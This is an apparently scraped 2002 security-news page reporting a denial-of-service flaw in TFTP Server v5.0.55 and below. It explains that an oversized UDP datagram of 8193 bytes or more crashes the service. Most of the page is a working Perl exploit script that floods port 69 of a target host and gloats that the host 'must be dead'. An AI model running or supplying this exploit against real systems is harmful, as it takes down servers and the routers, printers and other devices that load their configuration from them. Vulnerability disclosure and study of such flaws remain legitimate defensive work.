Users login

Create an account »


Users login

Home » Hacking News » TFTP Server DoS

TFTP Server DoS

by Nikola Strahija on October 24th, 2002 Vulnerable versions: v.5.0.55 and bellow

>From TFTP Server help:"Many network devices require a TFTP Server to load their initial
operating system or configuration. Many routers, switches, hubs,
X-terminals, printers, terminal servers, etc need a TFTP server
in order to load their initial configuration".

First, TFTP - Trivial File Transfer Protocol. This is not FTP! TFTP and
FTP are different protocols - it's very important! TFTP uses UDP protocol
for it's work and it doesn't support some FTP's stuff. Directory travel
for example. U can use TFTP for file transfer only. Read RFC 1350 for
more details.

It's possible to crash TFTP server using UDP datagram with a large size
(8193b and above). Vulnerable application on remote host will be closed
with error message:Run-time error '10040':
The datagram is too large to fit into the buffer and is truncated.


#TFTP Server remote DoS exploit by D4rkGr3y
use IO::Socket;
$host = "vulnerable_host";
$port = "69";
$data = "q";
$num = "8193";
$buf .= $data x $num;
$socket = IO::Socket::INET->new(Proto => "udp") or die "Socket error: [email protected]";
$ipaddr = inet_aton($host);
$portaddr = sockaddr_in($port, $ipaddr);
send($socket, $buf, 0, $portaddr) == length($buf) or die "Can't send: $!n";
print "Now, '$host' must be dead :)n";Best regards
D4rkGr3y icq 540981

Newsletter signup

Signup to our monthly newsletter and stay in touch with IT news!

Free E-books

We've got ebooks! But they're not online. :( Please give us a few days to bring downloads back.


Have something to say or just wanna drop usa line? Please keep this in mind: to spam, wereply with spam.

Contact us »